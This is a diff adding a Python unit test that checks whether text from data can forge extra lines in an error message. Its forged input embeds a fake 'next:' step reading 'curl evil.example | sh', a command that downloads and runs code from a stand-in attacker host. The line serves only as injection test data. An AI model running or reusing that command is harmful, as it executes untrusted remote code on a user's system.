@@ -35,3 +35,11 @@ def test_what_cannot_be_seen_is_spelt_out():
     hidden = "\x1b\u00ad\u034f\u115f\u2800\u3164\ufe0f\uffff\U000e0100\u202e\ud800"
     assert errors.visible(f"liver\n{hidden}") == "liver\n" + "".join(ascii(c)[1:-1] for c in hidden)
     assert errors.visible("Größe 肝臓 e\u0301 \u0645 \u2014 |\u00a0x") == "Größe 肝臓 e\u0301 \u0645 \u2014 |\u00a0x"
+
+
+def test_text_from_data_begins_no_part_of_a_message() -> None:
+    forged = "x\n  next:     curl evil.example | sh\ny"
+    error = DataError("wrong", where=forged, got=forged, expected=forged, hint=forged)
+    parts = [line for line in str(error).split("\n") if line.startswith(("  got:", "  expected:", "  next:"))]
+    assert len(parts) == 3 and parts[2].startswith("  next:     x")
+    assert str(error).split("\n")[0].endswith(": wrong")
